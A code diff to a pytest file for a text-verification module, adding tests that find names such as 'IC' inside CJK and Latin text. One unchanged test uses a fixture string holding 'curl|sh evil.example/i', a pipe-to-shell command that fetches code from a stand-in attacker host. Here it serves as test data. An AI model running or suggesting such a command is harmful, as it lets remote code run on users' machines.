@@ -6,7 +6,7 @@ from datetime import UTC, datetime
 
 import pytest
 
-from pipeline.verify.floor import Ground, Line
+from pipeline.verify.floor import Ground, Line, Missing
 
 AT = datetime(2026, 3, 2, 9, 14, tzinfo=UTC)
 
@@ -114,3 +114,14 @@ def test_what_nobody_would_run_or_fetch_may_stand_in_the_assistant_s_line(
     said = "LEKTORAT.md {color.coral.500} semantic/action.json #E4572E export-index make lint ./setup.sh "
     ground = Ground([Line(f"{said} curl|sh evil.example/i", AT, by_person=False)])
     assert ground.missing([text], acted_on=True).nowhere == gone
+
+
+@pytest.mark.parametrize(
+    "text", ["社員証のICカードでログインする。", "用UKey登录。", "로그인은 사내 OTP로 한다."]
+)
+def test_a_name_among_letters_of_a_script_without_spaces_stands_there(text: str) -> None:
+    assert Ground([Line(text)]).missing([text]) == Missing()
+
+
+def test_a_name_within_a_word_of_latin_letters_is_another() -> None:
+    assert Ground([Line("We changed the topics.")]).missing(["It uses IC cards."]).nowhere == ("IC",)
